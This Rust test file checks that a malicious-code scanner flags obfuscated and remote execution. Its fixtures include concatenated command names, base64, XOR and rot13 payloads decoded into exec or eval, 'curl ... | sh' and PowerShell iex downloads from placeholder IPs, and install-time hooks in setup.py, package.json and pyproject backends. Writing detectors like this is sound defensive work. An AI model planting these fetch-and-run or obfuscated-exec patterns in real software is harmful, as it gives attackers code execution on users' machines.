//! Tests of the code pass: values followed into sinks, obfuscation, install hooks, bounds.

use super::{analyze, encoded_run, lang_of, parse, Lang, Outcome, MAX_PARSE_BYTES};
use crate::{ScanResult, Scanner, Severity, TargetInfo};
use base64::Engine;

pub(super) fn scan(files: &[(&str, &str)]) -> ScanResult {
    static S: std::sync::OnceLock<Scanner> = std::sync::OnceLock::new();
    let s = S.get_or_init(|| Scanner::new().unwrap());
    let report = s.scan_files(files.iter().map(|(p, t)| (*p, t.as_bytes())));
    ScanResult::new(TargetInfo::Content, report)
}

pub(super) fn has(r: &ScanResult, id: &str, at_least: Severity) -> bool {
    r.findings
        .iter()
        .any(|f| f.rule_id == id && f.severity >= at_least)
}

fn worst(r: &ScanResult) -> Option<Severity> {
    r.findings.iter().map(|f| f.severity).max()
}

fn b64(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

/// Single files the code pass must flag: (path, text, rule, at least).
const FLAGGED: &[(&str, &str, &str, Severity)] = &[
    (
        "scripts/run.py",
        "import os\nname = 'sys' + 'tem'\nfn = getattr(os, name)\nfn('id')\ngetattr(os, 'sy' + 'stem')('uname -a')\n",
        "combo.assembled-command",
        Severity::High,
    ),
    (
        "lib/index.js",
        "const p = 'ZXZhbChwcm9jZXNzLmVudik=';\nconst src = Buffer.from(p, 'base64').toString('utf8');\neval(src);\n",
        "combo.obfuscated-exec",
        Severity::High,
    ),
    (
        "lib/index.js",
        "const cp = require('child_' + 'process');\ncp.execSync('id');\n",
        "combo.assembled-command",
        Severity::High,
    ),
    (
        "lib/index.ts",
        "const k: string = 'ev' + 'al';\nconst f = (globalThis as any)[k];\nnew Function(atob(payload))();\n",
        "combo.obfuscated-exec",
        Severity::High,
    ),
    (
        "scripts/setup.sh",
        "#!/bin/sh\nc=\"cu\"\"rl\"\nu=http://198.51.100.7/i.sh\n$c -s \"$u\" | sh\n",
        "combo.assembled-command",
        Severity::High,
    ),
    (
        "scripts/setup.sh",
        "#!/bin/bash\np='Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA=='\necho \"$p\" | base64 -d | bash\n",
        "combo.obfuscated-exec",
        Severity::High,
    ),
    (
        "scripts/setup.sh",
        "#!/bin/bash\nx=$'\\x63\\x75\\x72\\x6c'\ncmd=\"$x http://198.51.100.7/a\"\neval \"$cmd | sh\"\n",
        "combo.obfuscated-exec",
        Severity::High,
    ),
    (
        "scripts/run.sh",
        "#!/bin/bash\nd=$(curl -fsSL https://198.51.100.7/env)\neval \"$d\"\n",
        "combo.remote-code",
        Severity::High,
    ),
    (
        "tools/setup.ps1",
        "$b = 'SQBFAFgA'\n$t = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))\n$t | Invoke-Expression\n",
        "combo.obfuscated-exec",
        Severity::High,
    ),
    (
        "tools/setup.ps1",
        "$w = New-Object Net.WebClient\n$s = $w.DownloadString('https://198.51.100.7/a.ps1')\niex $s\n",
        "combo.remote-code",
        Severity::Critical,
    ),
    (
        "scripts/up.sh",
        "#!/bin/bash\nu=https://198.51.100.7/i.sh\nbash <(curl -fsSL \"$u\")\n",
        "combo.remote-code",
        Severity::High,
    ),
    (
        "scripts/up.sh",
        "#!/bin/sh\nsh <(echo \"$BLOB\" | base64 -d)\n",
        "combo.obfuscated-exec",
        Severity::High,
    ),
    (
        "x.py",
        "import subprocess\nsubprocess.run(['cu' + 'rl', '-s', URL])\n",
        "combo.assembled-command",
        Severity::High,
    ),
];

#[test]
fn single_files_the_code_pass_flags() {
    let mut missed = Vec::new();
    for (path, text, rule, at_least) in FLAGGED {
        let r = scan(&[(path, text)]);
        if !has(&r, rule, *at_least) {
            missed.push(format!(
                "{path}: {rule} at least {at_least}\n{text}\n{:#?}",
                r.findings
            ));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n\n"));
}

#[test]
fn python_getattr_with_an_assembled_name_is_an_assembled_command() {
    let (_, text, _, _) = FLAGGED[0];
    let r = scan(&[("scripts/run.py", text)]);
    assert!(r
        .inventory
        .executes
        .iter()
        .any(|c| c.detail.contains("spells `system`")));
}

#[test]
fn python_decode_into_exec_is_obfuscated_code_that_runs() {
    let payload = b64("import os\nos.system('curl -s http://203.0.113.9/x | sh')\n");
    let text = format!(
        "import base64\nblob = '{payload}'\ncode = base64.b64decode(blob).decode()\nexec(code)\n"
    );
    let r = scan(&[("tool/main.py", &text)]);
    assert!(
        has(&r, "combo.obfuscated-exec", Severity::High),
        "{:#?}",
        r.findings
    );
    // What the decoded code does is read too: a download that is run.
    assert!(!r.inventory.downloads.is_empty(), "{:#?}", r.inventory);
    assert!(!r.inventory.obfuscation.is_empty());
}

#[test]
fn python_decompress_marshal_rot13_and_fernet_into_exec() {
    for body in [
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode(DATA)))\n",
        "import marshal\ncode = marshal.loads(open('x.bin','rb').read())\nexec(code)\n",
        "import codecs\nsrc = codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot13')\neval(compile(src, 'x', 'exec'))\n",
        "from cryptography.fernet import Fernet\nf = Fernet(KEY)\nexec(f.decrypt(TOKEN))\n",
        "import binascii\nexec(bytes.fromhex('7072696e7428312b3129').decode())\n",
    ] {
        let r = scan(&[("pkg/loader.py", body)]);
        assert!(has(&r, "combo.obfuscated-exec", Severity::High), "{body}\n{:#?}", r.findings);
    }
}

#[test]
fn python_chr_arithmetic_and_xor_loops_are_followed() {
    // `os.system` spelled from character codes: the codes are computed and read.
    let codes: Vec<String> = "curl http://198.51.100.7/p.sh | bash"
        .bytes()
        .map(|b| format!("chr({b})"))
        .collect();
    let text = format!(
        "import os\ncmd = ''.join([{}])\nos.system(cmd)\n",
        codes.join(", ")
    );
    let r = scan(&[("bin/helper.py", &text)]);
    assert!(
        has(&r, "combo.obfuscated-exec", Severity::High),
        "{:#?}",
        r.findings
    );
    assert!(!r.inventory.downloads.is_empty(), "{:#?}", r.inventory);
    let xor = "KEY = 0x2a\ndata = open('blob.dat','rb').read()\nsrc = ''.join(chr(b ^ KEY) for b in data)\nexec(src)\n";
    let r = scan(&[("bin/helper.py", xor)]);
    assert!(
        has(&r, "combo.obfuscated-exec", Severity::High),
        "{:#?}",
        r.findings
    );
    assert!(r
        .inventory
        .obfuscation
        .iter()
        .any(|c| c.detail.contains("XOR")));
}

#[test]
fn python_fetched_code_into_exec_is_remote_code() {
    let text = "import urllib.request\nsrc = urllib.request.urlopen('https://example.org/p.py').read()\nexec(src)\n";
    let r = scan(&[("agent/update.py", text)]);
    assert!(
        has(&r, "combo.remote-code", Severity::Critical),
        "{:#?}",
        r.findings
    );
}

#[test]
fn javascript_decode_assembled_require_and_char_codes() {
    let codes: Vec<String> = "curl -s http://198.51.100.7/a | sh"
        .bytes()
        .map(|b| b.to_string())
        .collect();
    let text = format!(
        "const {{ execSync }} = require('child_process');\nconst c = String.fromCharCode({});\nexecSync(c);\n",
        codes.join(",")
    );
    let r = scan(&[("lib/index.js", &text)]);
    assert!(
        has(&r, "combo.obfuscated-exec", Severity::High),
        "{:#?}",
        r.findings
    );
    assert!(!r.inventory.downloads.is_empty(), "{:#?}", r.inventory);
}

#[test]
fn javascript_array_join_and_reverse_into_exec() {
    let text = "const cp = require('child_process');\nconst parts = ['cu', 'rl', ' -s', ' http://198.51.100.7/x', ' | sh'];\ncp.exec(parts.join(''));\nconst w = 'hs | moc.live//:ptth lruc'.split('').reverse().join('');\ncp.exec(w);\n";
    let r = scan(&[("src/post.js", text)]);
    assert!(
        has(&r, "combo.assembled-command", Severity::High),
        "{:#?}",
        r.findings
    );
    assert!(
        has(&r, "combo.remote-code", Severity::High),
        "{:#?}",
        r.findings
    );
}

#[test]
fn powershell_is_parsed_assembled_names_char_codes_and_pipes() {
    // `& $n` holding 'i'+'ex', backticks, `[char]` codes joined: an assembled Invoke-Expression.
    for body in [
        "$n = 'i' + 'ex'\n& $n $payload\n",
        "$c = -join ([char[]](105,101,120))\n.($c) $payload\n",
        "i`e`x $payload\n",
    ] {
        let r = scan(&[("tools/setup.ps1", body)]);
        assert!(
            has(&r, "combo.assembled-command", Severity::High),
            "{body}\n{:#?}",
            r.findings
        );
    }
    // A value decoded from base64 piped into iex; a download run by iex.
    // An honest build: Start-Process with literal arguments, base64 encoding (not decoding).
    let r = scan(&[(
        "build.ps1",
        "param([string]$V = '1.0')\n$stamp = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($V))\nStart-Process -FilePath 'dotnet' -ArgumentList @('build') -Wait\nWrite-Host \"built $stamp\"\n",
    )]);
    assert!(
        worst(&r).is_none_or(|s| s < Severity::Medium),
        "{:#?}",
        r.findings
    );
    assert!(r.inventory.obfuscation.is_empty(), "{:#?}", r.inventory);
}

#[test]
fn powershell_text_pass_sees_decoded_code_run() {
    // The text pass is the fallback for PowerShell that was not parsed (over the size cap or
    // out of time).
    let text = "$b = 'SQBFAFgA'\n$s = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))\nInvoke-Expression $s\n";
    let none = |l: &str| l.to_string();
    let mut cx = super::Ctx::new(text, Some("x.ps1"), true, "w", false, &none, None);
    super::powershell::scan(&mut cx);
    assert!(cx
        .facts
        .iter()
        .any(|f| f.kind == crate::capabilities::Kind::Obfuscates && f.dynamic));
    let r = scan(&[("tools/install.ps1", text)]);
    assert!(
        has(&r, "combo.obfuscated-exec", Severity::High),
        "{:#?}",
        r.findings
    );
}

#[test]
fn install_hooks_run_at_install_and_weigh_critical() {
    // setup.py's custom install command decodes and runs code: critical, at install.
    let payload = b64("import socket,os;os.system('id')");
    let setup = format!(
        "from setuptools import setup\nfrom setuptools.command.install import install\nimport base64\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        exec(base64.b64decode('{payload}'))\n\nsetup(name='x', version='1.0', cmdclass={{'install': PostInstall}})\n"
    );
    let r = scan(&[("setup.py", &setup)]);
    assert!(
        has(&r, "combo.obfuscated-exec", Severity::Critical),
        "{:#?}",
        r.findings
    );
    assert!(r
        .inventory
        .executes
        .iter()
        .any(|c| c.what.contains("cmdclass") && c.role == crate::Role::Install));
    // npm postinstall runs a file that decodes into eval: that file runs at install.
    let r = scan(&[
        (
            "package.json",
            "{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node scripts/setup.js\"}}",
        ),
        ("scripts/setup.js", "const s = atob(process.env.P || 'aWQ=');\neval(s);\n"),
    ]);
    assert!(
        has(&r, "combo.obfuscated-exec", Severity::Critical),
        "{:#?}",
        r.findings
    );
    // An in-tree build backend named by pyproject runs at install.
    let r = scan(&[
        (
            "pyproject.toml",
            "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
        ),
        (
            "_build/backend.py",
            "import zlib\nexec(zlib.decompress(open('blob','rb').read()))\n",
        ),
    ]);
    assert!(
        has(&r, "combo.obfuscated-exec", Severity::Critical),
        "{:#?}",
        r.findings
    );
    assert!(r
        .inventory
        .executes
        .iter()
        .any(|c| c.what.contains("build backend")));
}

#[test]
fn honest_code_is_not_flagged() {
    let r = scan(&[
        (
            "scripts/build.py",
            "import subprocess, sys, os\nsubprocess.run(['git', 'describe', '--tags'], check=True)\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-e', '.'])\nprint('a' + chr(10) + 'b')\nlines = '\\n'.join(['x', 'y'])\nos.makedirs('dist', exist_ok=True)\n",
        ),
        (
            "src/index.js",
            "const { execFileSync } = require('child_process');\nconst v = execFileSync('git', ['rev-parse', 'HEAD']).toString().trim();\nconst name = 'report-' + v + '.json';\nconsole.log(JSON.stringify({ name }));\nconst g = Function('return this')();\n",
        ),
        (
            "scripts/test.sh",
            "#!/bin/bash\nset -euo pipefail\nPY=${PYTHON:-python3}\n\"$PY\" -m pytest -q\nfor f in tests/*.sh; do bash \"$f\"; done\n",
        ),
    ]);
    assert!(
        worst(&r).is_none_or(|s| s < Severity::Medium),
        "{:#?}",
        r.findings
    );
    assert!(r.inventory.obfuscation.is_empty(), "{:#?}", r.inventory);
}

#[test]
fn long_encoded_lines_are_obfuscation_but_data_uris_and_minified_files_are_not() {
    let blob: String = (0..1600u32)
        .map(|i| {
            char::from(
                b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                    [((i * 7919 + i / 3) % 64) as usize],
            )
        })
        .collect();
    assert!(encoded_run(&format!("x = '{blob}'")).is_some());
    assert!(encoded_run(&format!("url('data:font/woff2;base64,{blob}')")).is_none());
    assert!(encoded_run(&"a".repeat(2000)).is_none());
    // The blob next to dynamic code in the same file: obfuscated code that runs.
    let text = format!("import base64 as b\nP = '{blob}'\nexec(b.b64decode(P))\n");
    let r = scan(&[("run.py", &text)]);
    assert!(has(&r, "combo.obfuscated-exec", Severity::High));
    let r = scan(&[("dist/app.min.js", &format!("var f='{blob}';"))]);
    assert!(r.inventory.obfuscation.is_empty());
}

#[test]
fn languages_by_extension_and_shebang() {
    assert_eq!(lang_of(Some("a/b.sh"), ""), Some(Lang::Shell));
    assert_eq!(
        lang_of(Some("a/hook"), "#!/usr/bin/env python3\n"),
        Some(Lang::Python)
    );
    assert_eq!(
        lang_of(Some("a/cli"), "#!/usr/bin/env node\n"),
        Some(Lang::Js)
    );
    assert_eq!(lang_of(Some("x.ts"), ""), Some(Lang::Js));
    assert_eq!(lang_of(Some("x.ps1"), ""), Some(Lang::PowerShell));
    assert_eq!(lang_of(Some("README.md"), "#!/bin/sh"), None);
    assert_eq!(lang_of(None, "exec(x)"), None);
}

#[test]
fn bounded_by_size_and_parse_time() {
    let none = |_: &str| String::new();
    // Over the cap: not parsed (the text passes still read the file).
    let big = format!(
        "import os\n{}os.system('c'+'url x')\n",
        "x = 1\n".repeat(MAX_PARSE_BYTES / 6 + 1)
    );
    let mut out = Vec::new();
    assert_eq!(
        analyze(
            Some("big.py"),
            &big,
            true,
            "w",
            false,
            &none,
            &mut out,
            super::MAX_SCAN_CODE_TIME
        ),
        Outcome::TooLarge
    );
    assert!(out.is_empty());
    // A parse past its budget is abandoned.
    let text = "x = [1, 2, 3]\n".repeat(30_000);
    assert!(super::parse_within(Lang::Python, &text, std::time::Duration::ZERO).is_none());
    assert!(parse(Lang::Python, "x = 1\n").is_some());
    // Under the cap: parsed.
    let mut out = Vec::new();
    assert_eq!(
        analyze(
            Some("s.py"),
            "import os\nos.system('c'+'url http://x | sh')\n",
            true,
            "w",
            false,
            &none,
            &mut out,
            super::MAX_SCAN_CODE_TIME,
        ),
        Outcome::Parsed
    );
    assert!(!out.is_empty());
    // The scan's time for code spent: not parsed.
    let mut out = Vec::new();
    assert_eq!(
        analyze(
            Some("s.py"),
            "import os\nos.system('c'+'url http://x | sh')\n",
            true,
            "w",
            false,
            &none,
            &mut out,
            std::time::Duration::ZERO,
        ),
        Outcome::OutOfBudget
    );
    assert!(out.is_empty());
}

#[test]
fn xor_loops_that_grow_a_buffer_are_followed_but_a_caret_in_a_string_is_not() {
    let py = "KEY = 0x5A\nout = bytearray()\nfor b in DATA:\n    out.append(b ^ KEY)\nexec(out.decode())\n";
    let r = scan(&[("pkg/init.py", py)]);
    assert!(
        has(&r, "combo.obfuscated-exec", Severity::High),
        "{:#?}",
        r.findings
    );
    let js = "const out = [];\nfor (const c of data) out.push(String.fromCharCode(c ^ 42));\neval(out.join(''));\n";
    let r = scan(&[("lib/init.js", js)]);
    assert!(
        has(&r, "combo.obfuscated-exec", Severity::High),
        "{:#?}",
        r.findings
    );
    // `^` in a pattern or a string is not an XOR.
    let honest = "import re, subprocess\npats = []\nfor w in WORDS:\n    pats.append('^' + w)\nsubprocess.run(['grep', '-E', '|'.join(pats), 'log.txt'])\n";
    let r = scan(&[("tools/find.py", honest)]);
    assert!(r.inventory.obfuscation.is_empty(), "{:#?}", r.inventory);
    assert!(
        worst(&r).is_none_or(|s| s < Severity::Medium),
        "{:#?}",
        r.findings
    );
}

#[test]
fn shell_interpreter_reading_a_fetched_or_decoded_script() {
    // A script run by path, a fixed `sh -c`: not dynamic.
    let r = scan(&[(
        "scripts/up.sh",
        "#!/bin/sh\nbash ./scripts/lint.sh\nsh -c 'make test'\n",
    )]);
    assert!(
        worst(&r).is_none_or(|s| s < Severity::Medium),
        "{:#?}",
        r.findings
    );
}

#[test]
fn files_without_a_sink_a_value_could_change_are_not_parsed() {
    let none = |_: &str| String::new();
    // The benchmark repository's honest Python (subprocess with a literal list) and
    // JavaScript (fetch, no sink).
    for (p, b) in crate::eval::benchmark_files(3) {
        let text = std::str::from_utf8(&b).unwrap();
        let mut out = Vec::new();
        let o = analyze(
            Some(&p),
            text,
            true,
            "w",
            false,
            &none,
            &mut out,
            super::MAX_SCAN_CODE_TIME,
        );
        assert!(
            matches!(o, Outcome::NothingToFollow | Outcome::NotCode),
            "{p}: {o:?}"
        );
    }
    // The same subprocess call next to a decoding is parsed.
    let mut out = Vec::new();
    let o = analyze(
        Some("x.py"),
        "import subprocess, base64\nsubprocess.run(base64.b64decode(C).decode().split())\n",
        true,
        "w",
        false,
        &none,
        &mut out,
        super::MAX_SCAN_CODE_TIME,
    );
    assert_eq!(o, Outcome::Parsed);
    // A process started from a list whose command word is spelled from pieces.
    let o = analyze(
        Some("x.js"),
        "const m = require('child_' + 'process');\n",
        true,
        "w",
        false,
        &none,
        &mut out,
        super::MAX_SCAN_CODE_TIME,
    );
    assert_eq!(o, Outcome::Parsed);
}

#[test]
fn a_list_of_literal_arguments_is_not_an_assembled_command() {
    // An honest setup.py next to a string concatenation: its argument lists are not
    // assembled values, so nothing in them becomes dynamic install-time code.
    let setup = "import subprocess\nfrom setuptools import setup\nNAME = 'geo' + '-tools'\nsubprocess.check_call(['bash', 'scripts/build.sh'])\nsubprocess.check_call(['git', 'submodule', 'update', '--init'])\nsetup(name=NAME)\n";
    let r = scan(&[
        ("setup.py", setup),
        ("scripts/build.sh", "#!/bin/sh\nmake -C native\n"),
    ]);
    assert!(
        worst(&r).is_none_or(|s| s < Severity::High),
        "{:#?}",
        r.findings
    );
    assert!(r
        .inventory
        .executes
        .iter()
        .all(|c| !c.detail.contains("assembled at run time")));
}
